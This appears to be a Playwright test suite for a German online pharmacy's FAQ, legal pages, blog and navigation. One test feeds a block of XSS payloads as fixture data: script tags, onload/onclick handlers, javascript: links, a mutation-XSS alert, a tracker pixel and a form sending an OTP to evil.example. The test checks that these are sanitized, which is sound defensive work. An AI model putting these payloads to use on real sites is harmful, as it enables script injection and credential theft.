import { expect, test } from './fixtures.ts';
import { inLongRun, someOf } from './long-run.ts';
import { expectNoBarrier } from './looks.ts';
import { asReader, isAtTop, scrollTop } from './reader.ts';

const post = '/blog/rezept-richtig-ausgestellt';

test.beforeEach(({ page }) => asReader(page));

test('[CT-04] one question is open at a time, by mouse and by keyboard', inLongRun, async ({ page }) => {
  await page.goto('/#/faq');
  const open = page.getByRole('main').getByRole('button', { expanded: true });
  await expect(open).toHaveText(['Wie löse ich mein Rezept ein?']);
  await page.getByRole('button', { name: 'Wie bezahle ich?' }).click();
  await expect(open).toHaveText(['Wie bezahle ich?']);
  await expect(page.getByText('Sie bezahlen erst, wenn wir Ihr Rezept geprüft')).toBeVisible();
  await page.keyboard.press('Enter');
  await expect(open).toHaveCount(0);
  await page.keyboard.press('Space');
  await expect(open).toHaveText(['Wie bezahle ich?']);
});

test('[CT-04] the questions follow the language', inLongRun, async ({ page }) => {
  await page.goto('/#/faq');
  await expect(page.getByRole('heading', { level: 2, name: 'Rezept einlösen' })).toBeVisible();
  await page.getByRole('button', { name: 'DE, Sprache wechseln' }).click();
  const english = page.waitForResponse('**/content_management/faq/faq.en.json');
  await page.getByRole('button', { name: 'English' }).click();
  const [section] = await (await english).json();
  await expect(page.getByRole('heading', { level: 2, name: section.title })).toBeVisible();
  await expect(page.getByRole('main').getByRole('button', { expanded: true })).toHaveCount(1);
});

const legalPages = [
  ['/impressum', 'Angaben nach § 5 DDG', 'Information under section 5 DDG'],
  ['/datenschutz', 'Server-Logs werden nach 30 Tagen gelöscht.', 'Server logs are deleted after 30 days.'],
  ['/agb', 'Geltung und Anbieter', 'Scope and provider'],
  ['/barrierefreiheit', 'Unser Angebot in Kürze', 'Our service in brief'],
  ['/widerruf', 'Muster-Widerrufsformular', 'Right of withdrawal'],
] as const;

for (const [path, german, english] of someOf(legalPages, 1)) {
  test(`[CT-05] ${path} shows its file in both languages, fetched past the cache`, async ({ page }) => {
    const name = path.slice(1);
    const file = page.waitForRequest(`**/content_management/${name}/${name}.de.md`);
    await page.goto(`/#${path}`);
    expect((await (await file).allHeaders())['cache-control']).toBe('no-cache');
    const text = page.getByRole('main');
    await expect(text).toContainText(german);
    await expect(text.getByRole('heading', { level: 2 }).nth(1)).toBeVisible();
    await expect(text).not.toContainText('{{');

    await page.evaluate(() => localStorage.setItem('locale', 'en'));
    await page.reload();
    await expect(text).toContainText(english);
    await expect(text.getByRole('heading', { level: 2 }).nth(1)).toBeVisible();
  });
}

test('[BZ-02] the privacy page says that server logs are deleted after 30 days', inLongRun, async ({ page }) => {
  await page.goto('/#/datenschutz');
  await expect(page.getByText('Server-Logs werden nach 30 Tagen gelöscht.').first()).toBeVisible();
});

test(
  '[CT-05] without a file the built-in text stands there in paragraphs',
  inLongRun,
  async ({ page, browserErrors }) => {
    browserErrors.expect(/404/);
    await page.route('**/content_management/**', (route) => route.fulfill({ status: 404, json: { id: 'NotFound' } }));
    await page.goto('/#/impressum');
    const text = page.getByRole('main');
    await expect(text.getByText(/^Anbieter dieses Shops ist Mainblüte Apotheke/)).toBeVisible();
    await expect(text.getByText(/^Sie erreichen uns telefonisch/)).toBeVisible();
  },
);

test('[CT-06] a translation of the terms says so and leads to the German ones', inLongRun, async ({ page, axe }) => {
  await page.goto('/#/agb');
  await expect(page.getByRole('heading', { level: 2, name: 'Geltung und Anbieter' })).toBeVisible();
  await expect(page.getByRole('note')).toHaveCount(0);

  await page.evaluate(() => localStorage.setItem('locale', 'en'));
  await page.reload();
  await expect(page.getByRole('note')).toContainText('This text was translated by machine');
  await axe();
  const link = page.getByRole('note').getByRole('link', { name: 'Allgemeine Geschäftsbedingungen' });
  await expect(link).toHaveAttribute('href', '#/agb');
  await link.click();
  await expect(page.getByRole('heading', { level: 2, name: 'Geltung und Anbieter' })).toBeVisible();
  await page.goBack();
  await expect(page.getByRole('heading', { level: 2, name: 'Scope and provider' })).toBeVisible();
});

test('[NA-02] an anchor is found when the page is opened, reloaded, linked to and gone back to', async ({ page }) => {
  await page.goto('/#/agb#haftung');
  await expect.poll(() => isAtTop(page, 'haftung')).toBe(true);
  await page.reload();
  await expect.poll(() => isAtTop(page, 'haftung')).toBe(true);

  const contents = page.getByRole('navigation', { name: 'Inhalt' });
  await contents.getByRole('link', { name: 'Zahlung' }).click();
  await expect(page).toHaveURL(/#\/agb#zahlung$/);
  await expect.poll(() => isAtTop(page, 'zahlung')).toBe(true);
  await expect(contents.getByRole('link', { name: 'Zahlung' })).toHaveAttribute('aria-current', 'location');
  await expect(page.getByRole('heading', { level: 2, name: 'Zahlung' })).toBeFocused();

  await page.goBack();
  await expect.poll(() => isAtTop(page, 'haftung')).toBe(true);
});

test('[NA-02] links inside a text stay in the shop, and going back restores the position', async ({ page }) => {
  await page.goto(`/#${post}`);
  const link = page.getByRole('article').first().getByRole('link', { name: 'Häufige Fragen' });
  await link.scrollIntoViewIfNeeded();
  const position = await scrollTop(page);
  expect(position).toBeGreaterThan(500);
  await page.evaluate(() => Object.assign(window, { isSamePage: true }));
  await link.click();
  await expect(page.getByRole('heading', { level: 1, name: 'Häufige Fragen' })).toBeVisible();
  await expect.poll(() => scrollTop(page)).toBe(0);
  await page.goBack();
  await expect(page.getByRole('heading', { level: 1, name: 'Das Rezept richtig ausgestellt' })).toBeVisible();
  await expect.poll(() => scrollTop(page)).toBe(position);
  expect(await page.evaluate(() => 'isSamePage' in window)).toBe(true);
});

test('[NA-02] a link to a question opens it', inLongRun, async ({ page }) => {
  await page.goto('/#/faq#wie-lange-gilt-mein-rezept');
  const question = page.getByRole('button', { name: 'Wie lange gilt mein Rezept?' });
  await expect(question).toHaveAttribute('aria-expanded', 'true');
  await expect.poll(() => isAtTop(page, 'wie-lange-gilt-mein-rezept')).toBe(true);
});

test('a hostile answer of any backend does nothing', async ({ page, browserErrors }) => {
  // The browser's own wall tells of what it saw while the text was still being taken apart.
  browserErrors.expect(/violates the following Content Security Policy/);
  const answerHtml = `
    <p onclick="document.title='clicked'">Text</p>
    <script>document.title = 'script'</script>
    <img src="/favicon.svg" onload="document.title='load'"><img src="https://tracker.example/pixel.gif">
    <svg onload="document.title='svg'"><a href="javascript:document.title='link'">x</a></svg>
    <form action="https://evil.example"><input name="otp"><button>Senden</button></form>
    <a href="javascript:document.title='link'">Weiter</a><math><mtext><style><img src=/favicon.svg onload=alert(1)>`;
  const entries = [{ type: 'qa', id: 'main', question: 'Sicher?', answerHtml }];
  await page.route('**/faq/faq.de.json', (route) => route.fulfill({ json: entries }));
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  await page.goto('/#/faq');
  const text = page.getByRole('main').getByText('Text', { exact: true });
  await text.click();
  await page.getByText('Weiter').click();
  await expect(page).toHaveTitle('Häufige Fragen · Mainblüte Apotheke');
  const foreign = ':is(script, svg:not(.lucide), form, input, style, math, [onclick], [onload], [href^="javascript"])';
  await expect(page.locator(`[id^="answer-"] ${foreign}`)).toHaveCount(0);
  expect(requests.filter((url) => url.includes('tracker.example'))).toEqual([]);
});

test('posts, questions and legal texts can be printed as a whole', async ({ page }) => {
  await page.goto('/#/faq');
  await expect(page.getByRole('button', { name: 'Wie bezahle ich?' })).toBeVisible();
  await page.emulateMedia({ media: 'print' });
  await expect(page.getByText('Sie bezahlen erst, wenn wir Ihr Rezept geprüft')).toBeVisible();
  await expect(page.getByRole('banner')).toBeHidden();
  await page.goto('/#/agb');
  await expect(page.getByRole('heading', { level: 2, name: 'Haftung' })).toBeVisible();
  await expect(page.getByRole('navigation', { name: 'Inhalt' })).toBeHidden();
  await page.goto(`/#${post}`);
  await expect(page.getByRole('heading', { level: 2, name: 'Wer verordnen darf' })).toBeVisible();
  await expect(page.getByRole('link', { name: 'Zurück zum Ratgeber' })).toBeHidden();
  await expect(page.getByRole('heading', { name: 'Weiterlesen' })).toBeHidden();
});

const texts = ['/blog', post, '/faq', '/agb', '/glossar', '/datenschutz', '/barrierefreiheit', '/widerruf'];

for (const path of someOf(texts, 4)) {
  test(`no barrier that a machine can find, and nothing over the edge: ${path}`, async ({ page }) => {
    await page.goto(`/#${path}`);
    await expect(page.getByRole('main').getByRole('heading', { level: 2 }).nth(1)).toBeVisible();
    await expectNoBarrier(page, path);
  });
}
